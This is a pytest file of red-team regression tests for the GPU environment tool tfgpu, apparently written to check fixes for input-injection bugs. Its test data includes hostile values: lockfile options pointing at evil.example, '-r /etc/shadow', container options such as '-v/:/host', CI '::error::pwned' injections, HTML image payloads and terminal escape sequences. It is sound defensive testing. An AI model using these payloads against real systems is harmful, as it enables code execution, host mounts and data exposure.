"""Red team, second round: attacks through what tfgpu reads from elsewhere after the code moved (the lock
stage through the step runner, container runners, the registry's container entries, lint's Dockerfile
parser, fleet's job scripts). Each test names what it did before its fix ("before:"), or says it held.
Written first and run against main before any fix; docs/dev/faults.md lists them."""

from __future__ import annotations

import json
import os
import sys
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests import TESTS
from tests.conftest import isolate_installers
from tests.faults.test_force import _users_venv
from tfgpu.backends.lockfiles import read_lock
from tfgpu.build import registry
from tfgpu.core.errors import InputError, UsageError

pytestmark = pytest.mark.safety

Cli = Callable[..., tuple[int, str, str]]
FACTS = TESTS / "data" / "facts" / "r740-4x-tesla-m60.json"
SIX = "six==1.16.0 --hash=sha256:8abb2f1d86890a2dfb989f9a77cfcfd3e47c2a354b01111771326f8aa26e0254\n"
DEAD_PID = 2**22 + 17  # above Linux's largest pid_max: never a live process


@pytest.fixture(autouse=True)
def home(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    monkeypatch.setenv("TFGPU_CONFIG", str(tmp_path / "config.toml"))
    (tmp_path / "config.toml").write_text("")
    return isolate_installers(monkeypatch, tmp_path)


# --------------------------------------------------------------------------- pip locks


@pytest.mark.parametrize("hidden", ["--index-url http://127.0.0.1:9/simple", "-r /etc/shadow", "-e .",
                                    "--extra-index-url=http://evil.example/simple", "--trusted-host evil.example"])
def test_attack_pip_lock_comment_ending_in_a_backslash_cannot_hide_an_option(tmp_path: Path, hidden: str) -> None:
    # before: tfgpu joined "# comment \" with the next line and skipped both as a comment; pip and uv end a
    # comment at its line (pip's join_lines; uv 0.13 fetched from the --index-url below): the option reached
    # the installer. Found by running `uv pip install --dry-run -r` on the file.
    lock = tmp_path / "requirements.lock.txt"
    lock.write_text(f"# Locked by tfgpu \\\n{hidden}\n{SIX}")
    with pytest.raises(InputError, match="not a pinned requirement"):
        read_lock(lock)


def test_attack_pip_lock_requirement_then_a_continued_comment_cannot_hide_an_option(tmp_path: Path) -> None:
    # before: "six==... \\" + "# note \\" + "--index-url ..." was one line to tfgpu (the option inside its
    # comment); pip ends the joined line at the comment line and reads the option on its own
    lock = tmp_path / "requirements.lock.txt"
    lock.write_text(SIX.rstrip("\n") + " \\\n    # via tensorflow \\\n--index-url http://evil.example/simple\n")
    with pytest.raises(InputError, match="not a pinned requirement"):
        read_lock(lock)


def test_attack_pip_lock_requirement_continued_onto_an_option_is_refused(tmp_path: Path) -> None:
    # held: a continued requirement line is one logical line for pip, uv and tfgpu alike
    lock = tmp_path / "requirements.lock.txt"
    lock.write_text(SIX.rstrip("\n") + " \\\n    --index-url http://evil.example/simple\n")
    with pytest.raises(InputError, match="not a pinned requirement"):
        read_lock(lock)


@pytest.mark.parametrize("sep", ["\f", "\v", "\x1c", "\u2028", "\x85"])
def test_attack_pip_lock_line_separators_python_knows_and_pip_does_not(tmp_path: Path, sep: str) -> None:
    # held: Python's splitlines() splits at these, uv does not; tfgpu then checks more lines, never fewer
    lock = tmp_path / "requirements.lock.txt"
    lock.write_text(f"# comment{sep}--index-url http://evil.example/simple\n{SIX}")
    with pytest.raises(InputError):
        read_lock(lock)


# --------------------------------------------------------------------------- facts files name programs


def _evil_facts(tmp_path: Path) -> tuple[Path, Path]:
    """A facts file whose conda and interpreters are a program that leaves a mark when it runs."""
    mark = tmp_path / "PWNED"
    prog = tmp_path / "evil"
    prog.write_text(f'#!/bin/sh\necho "$@" >> {mark}\necho \'{{"envs_dirs": ["{tmp_path}/x"]}}\'\n')
    prog.chmod(0o755)
    facts = json.loads(FACTS.read_text())
    facts["conda"] = {"kind": "micromamba", "path": str(prog), "version": "1.5.0"}
    for it in facts["python"]["interpreters"]:
        it["path"] = str(prog)
    path = tmp_path / "evil-facts.json"
    path.write_text(json.dumps(facts))
    return path, mark


@pytest.mark.real_subprocess
@pytest.mark.parametrize("extra", [[], ["--format", "sh"], ["--json"], ["--backend", "conda"]])
def test_attack_plan_with_a_facts_file_never_runs_the_conda_it_names(
        cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, extra: list[str]) -> None:
    # before: `tfgpu plan --facts FILE` ran FILE's conda (`/path/from/file info --json`, to find its envs
    # directory) when no conda was installed here: code execution from someone else's report
    empty = tmp_path / "bin"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))
    facts, mark = _evil_facts(tmp_path)
    rc, _out, err = cli("plan", "--tf", "2.4.1", "--facts", str(facts), *extra)
    assert rc in (0, 1, 2), err
    assert not mark.exists(), mark.read_text()


@pytest.mark.real_subprocess
def test_attack_lock_with_a_facts_file_never_runs_its_programs(
        cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # held: the lock stage runs only uv (found on this machine), never an interpreter or conda from the file
    empty = tmp_path / "bin"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))
    monkeypatch.setattr(sys, "executable", str(empty / "python"))  # no uv beside tfgpu's interpreter either
    facts, mark = _evil_facts(tmp_path)
    rc, _out, err = cli("lock", "--tf", "2.4.1", "--backend", "pip", "-o", str(tmp_path / "l.txt"),
                        "--facts", str(facts))
    assert rc in (1, 2), err
    assert not mark.exists()


# --------------------------------------------------------------------------- lint


def _arg_bomb(path: Path) -> Path:
    """Each ARG repeats the previous one 300 times: 4 KB of Dockerfile, 90 MB once expanded."""
    path.write_text("ARG A=" + "x" * 1000 + "\nARG B=" + "$A" * 300 + "\nARG C=" + "${B}" * 300
                    + "\nFROM nvidia/cuda:$C\nRUN pip install tensorflow==2.15.0\n")
    return path


def test_attack_lint_arg_expansion_bomb_is_bounded(tmp_path: Path) -> None:
    # before: global ARGs were substituted into each other without a bound: 90 MB here, and one more ARG
    # line made it 27 GB (MemoryError, rc 3, or the OOM killer) from a 5 KB file
    from tfgpu.kb.knowledge import load_kb
    from tfgpu.tools.lint import lint_paths

    kb = load_kb()
    path = _arg_bomb(tmp_path / "Dockerfile")
    tracemalloc.start()
    try:
        lint_paths([str(path)], kb, None)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 16 * 1024 * 1024, peak


def test_attack_lint_arg_expansion_bomb_through_the_cli(cli: Cli, tmp_path: Path) -> None:
    path = tmp_path / "Dockerfile"
    path.write_text("ARG A=" + "x" * 1000 + "\nARG B=" + "$A" * 1000 + "\nARG C=" + "$B" * 1000
                    + "\nARG D=" + "$C" * 1000 + "\nFROM nvidia/cuda:$D\n")
    rc, _out, err = cli("lint", str(path), "--facts", str(FACTS))
    assert rc in (0, 1, 2), err
    assert "internal error" not in err


def test_ordinary_arg_substitution_still_works() -> None:
    from tfgpu.tools.dockerfile import parse_dockerfile, stages

    text = "ARG CUDA=12.2.2\nARG TAG=${CUDA}-cudnn8-runtime-ubuntu22.04\nFROM nvidia/cuda:$TAG\n"
    assert stages(parse_dockerfile(text))[0].image == "nvidia/cuda:12.2.2-cudnn8-runtime-ubuntu22.04"


# --------------------------------------------------------------------------- the registry names programs


@pytest.mark.parametrize(("tool", "image"), [
    ("/tmp/evil", "tensorflow/tensorflow:2.15.0-gpu"),  # any program as the runtime
    ("sh", "tensorflow/tensorflow:2.15.0-gpu"),
    ("docker", "--privileged"),  # options as the image
    ("docker", "-v/:/host"),
    ("podman", "--volume=/:/host"),
    ("apptainer", "--bind=/:/host"),
])
def test_attack_container_entry_in_the_registry_cannot_name_a_program_or_an_option(tool: str, image: str) -> None:
    # before: `tfgpu run NAME` for a container entry ran the registry's "tool" as the program and put its
    # "prefix" (the image) after the runtime's options unchecked: `docker run ... -v/:/host python`
    from tfgpu.build.userenv import command_for

    entry = {"name": "t", "backend": tool if tool in ("docker", "podman", "apptainer") else "docker",
             "tool": tool, "prefix": image}
    with pytest.raises(UsageError):
        command_for(entry, ["python"], cwd="/work")


def test_a_real_container_entry_still_runs() -> None:
    from tfgpu.build.userenv import command_for

    argv, _env = command_for({"name": "t", "backend": "docker", "tool": "docker",
                              "prefix": "tensorflow/tensorflow:2.15.0-gpu"}, ["python", "x.py"], cwd="/work")
    assert argv[0] == "docker"
    assert argv[-3:] == ("tensorflow/tensorflow:2.15.0-gpu", "python", "x.py")


def test_a_real_apptainer_entry_still_runs(home: Path) -> None:
    from tfgpu.build.userenv import command_for

    sif = str(home / "images" / "tensorflow_tensorflow_2.15.0-gpu.sif")
    argv, _env = command_for({"name": "t", "backend": "apptainer", "tool": "apptainer", "prefix": sif},
                             ["python"], cwd="/work")
    assert argv[:3] == ("apptainer", "exec", "--nv")
    assert sif in argv


def _write_registry(entries: list[dict[str, Any]]) -> None:
    path = registry.registry_path()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"envs": entries}))


def test_attack_remove_of_a_planted_entry_without_an_id_keeps_the_users_venv(cli: Cli, tmp_path: Path) -> None:
    # before: an entry without "id" (the v0.1 format) skipped the marker check: a line added to envs.json
    # made `tfgpu remove proj` delete the user's own venv, rc 0
    code = _users_venv(tmp_path / "proj")
    _write_registry([{"name": "proj", "prefix": str(tmp_path / "proj"), "backend": "pip"}])
    rc, _out, err = cli("remove", "proj", "--yes")
    assert rc == 2, err
    assert code.read_text() == "print('years of work')\n"


def test_a_v01_entry_without_an_id_inside_tfgpus_envs_directory_is_still_removed(cli: Cli, home: Path) -> None:
    prefix = home / "envs" / "old"
    _users_venv(prefix)
    _write_registry([{"name": "old", "prefix": str(prefix), "backend": "pip"}])
    rc, _out, err = cli("remove", "old", "--yes")
    assert rc == 0, err
    assert not prefix.exists()


def _made_env(home: Path, name: str = "tf") -> Path:
    prefix = home / "envs" / name
    prefix.mkdir(parents=True)
    (prefix / "pyvenv.cfg").write_text("home = /usr/bin\n")
    env_id = registry.new_env_id()
    registry.write_marker(prefix, env_id)
    registry.record(name=name, prefix=str(prefix), backend="pip", tool="uv", tf="2.20.0", python="3.12",
                    recipe="pip-and-cuda", env_python=str(prefix / "bin" / "python"), env_id=env_id)
    return prefix


def test_attack_planted_symlink_as_a_stranded_old_environment_is_never_restored(home: Path, tmp_path: Path) -> None:
    # before: a symlink named .NAME.tfgpu-old-PID (PID dead) beside a registered prefix was "restored": the
    # environment was moved aside and deleted, and the prefix became the link, to a directory someone
    # else controls (their bin/activate then runs in `tfgpu run`)
    prefix = _made_env(home)
    (prefix / "mine").write_text("x")
    theirs = tmp_path / "theirs"
    theirs.mkdir()
    (theirs / "pyvenv.cfg").write_text("home = /usr/bin\n")
    link = prefix.with_name(f".{prefix.name}.tfgpu-old-{DEAD_PID}")
    link.symlink_to(theirs)
    found = registry.stranded([prefix])
    for item in found:
        registry.recover(item)
    assert not prefix.is_symlink()
    assert (prefix / "mine").read_text() == "x"
    assert (theirs / "pyvenv.cfg").exists()


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="chown to another user needs root")
def test_attack_stranded_directory_owned_by_another_user_is_never_restored(home: Path, tmp_path: Path) -> None:
    # before: in a shared parent directory, another user's .NAME.tfgpu-old-PID replaced the environment
    prefix = _made_env(home)
    (prefix / "mine").write_text("x")
    theirs = prefix.with_name(f".{prefix.name}.tfgpu-old-{DEAD_PID}")
    theirs.mkdir()
    (theirs / "pyvenv.cfg").write_text("home = /usr/bin\n")
    os.chown(theirs, 54321, 54321)
    for item in registry.stranded([prefix]):
        registry.recover(item)
    assert (prefix / "mine").read_text() == "x"
    assert theirs.exists()


def test_a_real_stranded_old_environment_is_still_restored(home: Path) -> None:
    prefix = _made_env(home)
    old = prefix.with_name(f".{prefix.name}.tfgpu-old-{DEAD_PID}")
    prefix.rename(old)
    (home / "envs" / "tf").mkdir()  # a half-built new one
    found = registry.stranded([prefix])
    assert [s.kind for s in found] == ["old"]
    registry.recover(found[0])
    assert registry.read_marker(prefix) is not None
    assert not old.exists()


# --------------------------------------------------------------------------- fleet job scripts


@pytest.mark.parametrize("engine", ["slurm", "ansible"])
def test_attack_fleet_reports_directory_cannot_start_with_a_dash(engine: str) -> None:
    # before (library only: the CLI has no --reports flag): reports="-rf" passed the value check; the sbatch
    # script ran `mkdir -p "-rf/$SLURM_JOB_ID"` and the playbook `tfgpu fleet merge -rf`: a value read as
    # an option
    from tfgpu.tools.fleet.engines import ansible_playbook, slurm_script

    def make() -> str:
        return slurm_script(nodes=2, reports="-rf") if engine == "slurm" else ansible_playbook(reports="-rf")

    with pytest.raises(UsageError):
        make()


# --------------------------------------------------------------------------- CI annotations


def test_attack_percent_encoded_newline_in_a_gpu_name_starts_no_workflow_command(cli: Cli, tmp_path: Path) -> None:
    # held: % is escaped first (%25), so GitHub decodes %0A back to the text "%0A", never a newline
    facts = json.loads(FACTS.read_text())
    facts["gpus"][0]["name"] = "Tesla M60%0A::error::pwned%0D%0A::add-mask::x"
    path = tmp_path / "f.json"
    path.write_text(json.dumps(facts))
    rc, out, err = cli("doctor", "--ci", "--facts", str(path), "--tf", "2.20.0")
    assert rc in (0, 1), err
    # GitHub reads a workflow command only from a line that starts with "::"; within a message it decodes
    # %0A into a line break of that message, never into a new command
    starts = [line for line in (out + err).splitlines() if line.lstrip().startswith("::")]
    assert not any(line.lstrip().startswith(("::error::pwned", "::add-mask")) for line in starts), starts
    assert all("%0A::error::pwned" not in line for line in starts)



# --------------------------------------------------------------------------- special files as inputs (held)


@pytest.fixture
def specials(tmp_path: Path) -> dict[str, Path]:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    zero = tmp_path / "zero"
    zero.symlink_to("/dev/zero")
    return {"fifo": fifo, "zero": zero}


@pytest.mark.parametrize("kind", ["fifo", "zero"])
def test_attack_special_files_given_to_lint_are_refused_at_once(cli: Cli, specials: dict[str, Path], kind: str) -> None:
    # held: lint reads regular files only (a FIFO with no writer would block, /dev/zero never ends)
    rc, _out, err = cli("lint", str(specials[kind]), "--facts", str(FACTS))
    assert rc == 2, err
    assert "not a file" in err


@pytest.mark.parametrize("kind", ["fifo", "zero"])
def test_attack_special_files_as_a_lockfile_are_refused_at_once(cli: Cli, specials: dict[str, Path], kind: str) -> None:
    rc, _out, err = cli("create", "--from-lock", str(specials[kind]), "--dry-run", "--facts", str(FACTS))
    assert rc == 2, err


def test_attack_dev_zero_as_the_config_file_is_refused(cli: Cli, specials: dict[str, Path],
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TFGPU_CONFIG", str(specials["zero"]))
    rc, _out, err = cli("plan", "--tf", "2.4.1", "--facts", str(FACTS))
    assert rc == 2, err


@pytest.mark.parametrize("nest", ["[", "{b="])
def test_attack_deeply_nested_toml_config_is_rc_2(cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                  nest: str) -> None:
    # held: tomllib's RecursionError is caught and named
    close = "]" if nest == "[" else "}"
    (tmp_path / "deep.toml").write_text("a = " + nest * 50_000 + close * 50_000 + "\n")
    monkeypatch.setenv("TFGPU_CONFIG", str(tmp_path / "deep.toml"))
    rc, _out, err = cli("plan", "--tf", "2.4.1", "--facts", str(FACTS))
    assert rc == 2, err
    assert "cannot be read" in err


def test_attack_fleet_directory_with_a_fifo_and_a_dev_zero_link_is_merged_in_bounded_time(
        cli: Cli, tmp_path: Path) -> None:
    # held: only regular files are read (the FIFO would block, the link would never end)
    reports = tmp_path / "reports"
    reports.mkdir()
    facts = json.loads(FACTS.read_text())
    (reports / "good.json").write_text(json.dumps({"schema": "tfgpu.doctor/1", "tfgpu_version": "0",
                                                    "data_version": "0", "facts": facts}))
    os.mkfifo(reports / "a.json")
    (reports / "b.json").symlink_to("/dev/zero")
    rc, _out, err = cli("fleet", "merge", str(reports))
    assert rc in (0, 1), err


# --------------------------------------------------------------------------- secrets in index URLs


SECRET_URL = "https://alice:s3cr3t-token@pypi.corp.example/simple"


def test_attack_index_url_password_never_reaches_the_terminal_in_plan(cli: Cli) -> None:
    # before: `tfgpu plan --index-url https://user:TOKEN@host/simple` printed the token in the step it
    # shows (and create echoed `+ cmd` with it into the terminal, the CI log and tfgpu's log file); pip
    # and uv print such URLs with the password as ****
    rc, out, err = cli("plan", "--tf", "2.4.1", "--backend", "pip", "--force", "--index-url", SECRET_URL,
                       "--facts", str(FACTS))
    assert rc in (0, 1), err
    assert "s3cr3t" not in out + err
    assert "alice:****@pypi.corp.example" in out


def test_a_generated_script_keeps_the_real_index_url(cli: Cli) -> None:
    rc, out, err = cli("plan", "--tf", "2.4.1", "--backend", "pip", "--force", "--index-url", SECRET_URL,
                       "--format", "sh", "--facts", str(FACTS))
    assert rc in (0, 1), err
    assert SECRET_URL in out  # the script must run; it is the user's own file


@pytest.mark.real_subprocess
def test_attack_index_url_password_never_reaches_the_step_echo_nor_the_log(tmp_path: Path) -> None:
    from tfgpu.core import process as run

    echoed: list[str] = []
    log = run.StepLog(tmp_path / "step.log", echo=echoed.append)
    with pytest.raises(run.StepFailed) as info:
        run.run_step([sys.executable, "-c", "import sys; sys.exit(3)", "--index-url", SECRET_URL,
                      "--find-links", "https://ghp_0123456789abcdef@github.example/wheels"], log=log, timeout=60)
    text = "\n".join(echoed) + (tmp_path / "step.log").read_text() + info.value.one_line()
    assert "s3cr3t" not in text
    assert "ghp_0123456789abcdef" not in text
    assert "alice:****@" in text


def test_attack_markup_in_a_gpu_name_never_renders_in_the_github_job_summary(
        cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # before: `doctor --ci` wrote facts values into $GITHUB_STEP_SUMMARY with only "|" escaped: a GPU name
    # (a facts file, a doctor report from a runner) put an <img> that loads from anywhere, a Markdown image
    # and a link into the job's summary page
    import re

    facts = json.loads(FACTS.read_text())
    facts["gpus"][0]["name"] = ("Tesla <img src=https://evil.example/p.png> ![t](https://evil.example/t.png) "
                                "[click](https://evil.example) `code`")
    path = tmp_path / "f.json"
    path.write_text(json.dumps(facts))
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    rc, _out, err = cli("doctor", "--ci", "--facts", str(path), "--tf", "2.4.1")
    assert rc in (0, 1), err
    text = summary.read_text()
    assert "evil.example" in text  # the value is shown, as text
    assert "<img" not in text
    assert re.search(r"(?<!\\)\]\(", text) is None  # no link or image
    assert "`code`" not in text


def test_attack_escapes_in_a_tampered_registry_never_reach_the_terminal(cli: Cli) -> None:
    # held: `tfgpu envs` renders every registry value through the output layer (escapes stripped, bidi
    # controls shown escaped)
    _write_registry([{"name": "x\x1b]0;PWN\x07\x1b[31m\u202e", "prefix": "/nonexistent/p\x1b[2J", "backend": "pip",
                      "tool": "uv\x1b[5m", "tf": "2.20\x1b[31m", "python": "3.11", "recipe": "r", "env_python": "x",
                      "created": "t", "smoke": {"summary": "ok\x1b]8;;http://evil.example\x1b\\l"}}])
    rc, out, err = cli("envs")
    assert rc == 0, err
    for bad in ("\x1b", "\x07", "\u202e"):
        assert bad not in out + err


def test_attack_fleet_directory_with_a_symlink_loop_and_a_link_to_a_system_directory(cli: Cli, tmp_path: Path) -> None:
    # held: the directory walk reads the reports under it, not what links lead to (no loop, no /usr)
    reports = tmp_path / "reports"
    reports.mkdir()
    facts = json.loads(FACTS.read_text())
    (reports / "good.json").write_text(json.dumps({"schema": "tfgpu.doctor/1", "tfgpu_version": "0",
                                                    "data_version": "0", "facts": facts}))
    (reports / "loop").symlink_to(".")
    (reports / "sys").symlink_to("/usr/share")
    rc, out, err = cli("fleet", "merge", str(reports), "--json")
    assert rc in (0, 1), err
    assert "/usr/share" not in out + err
    doc = json.loads(out)
    assert doc["nodes"] == 1  # good.json once, not again through the loop
    assert doc["problems"] == []


def test_attack_lone_surrogate_in_a_report_is_written_into_the_fleet_html(cli: Cli, tmp_path: Path) -> None:
    # before: a GPU name "\udcff" (valid JSON) made `fleet merge --html` fail with UnicodeEncodeError: rc 3
    reports = tmp_path / "reports"
    reports.mkdir()
    facts = json.loads(FACTS.read_text())
    facts["gpus"][0]["name"] = "Tesla \udcff M60"
    (reports / "n1.json").write_text(json.dumps({"schema": "tfgpu.doctor/1", "tfgpu_version": "0",
                                                  "data_version": "0", "facts": facts}))
    page = tmp_path / "fleet.html"
    rc, _out, err = cli("fleet", "merge", str(reports), "--html", str(page))
    assert rc in (0, 1), err
    assert "udcff" in page.read_text(encoding="utf-8")


def test_attack_lone_surrogate_in_the_facts_reaches_the_github_job_summary_escaped(
        cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # before: `doctor --ci` with $GITHUB_STEP_SUMMARY set crashed with UnicodeEncodeError (rc 3)
    facts = json.loads(FACTS.read_text())
    facts["gpus"][0]["name"] = "Tesla \udcff M60"
    path = tmp_path / "f.json"
    path.write_text(json.dumps(facts))
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    rc, _out, err = cli("doctor", "--ci", "--facts", str(path))
    assert rc in (0, 1), err
    assert "udcff" in summary.read_text(encoding="utf-8")


def test_attack_workflow_commands_in_a_gpu_index_are_refused(cli: Cli, tmp_path: Path) -> None:
    # held: a GPU's index becomes a check id ("gpu.N"), which CI mode prints unescaped; the facts validator
    # takes only integers there
    facts = json.loads(FACTS.read_text())
    facts["gpus"][0]["index"] = "0\n::error::pwned\n::stop-commands::x"
    path = tmp_path / "f.json"
    path.write_text(json.dumps(facts))
    rc, out, err = cli("doctor", "--ci", "--facts", str(path))
    assert rc == 2, err
    assert not any(line.lstrip().startswith("::error::pwned") for line in (out + err).splitlines())


def test_attack_id_less_entry_through_an_envs_directory_that_is_a_link(cli: Cli, home: Path, tmp_path: Path) -> None:
    # before (with the fix above): envs/ replaced by a link to the user's projects made every project
    # "inside tfgpu's envs directory" once both sides were resolved
    projects = tmp_path / "projects"
    code = _users_venv(projects / "proj")
    home.mkdir(parents=True, exist_ok=True)
    (home / "envs").symlink_to(projects)
    _write_registry([{"name": "proj", "prefix": str(home / "envs" / "proj"), "backend": "pip"}])
    rc, _out, err = cli("remove", "proj", "--yes")
    assert rc == 2, err
    assert code.exists()


@pytest.mark.parametrize("what", ["file", "dir"])
def test_attack_a_registry_other_users_can_write_is_refused(cli: Cli, home: Path, tmp_path: Path, what: str) -> None:
    # before: a group/world-writable envs.json (or TFGPU_HOME) in a shared directory was trusted: another user
    # could add entries that `tfgpu run` activates (their bin/activate runs as you) or `remove` acts on
    prefix = _made_env(home)
    path = registry.registry_path()
    if what == "file":
        path.chmod(0o666)
    else:
        home.chmod(0o777)
    rc, _out, err = cli("run", "tf", "--", "true")
    assert rc == 2, err
    assert "not trusted" in err
    assert prefix.exists()


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="chown to another user needs root")
def test_attack_a_registry_owned_by_another_user_is_refused(cli: Cli, home: Path) -> None:
    _made_env(home)
    os.chown(registry.registry_path(), 54321, 54321)
    rc, _out, err = cli("envs")
    assert rc == 2, err
    assert "another user" in err
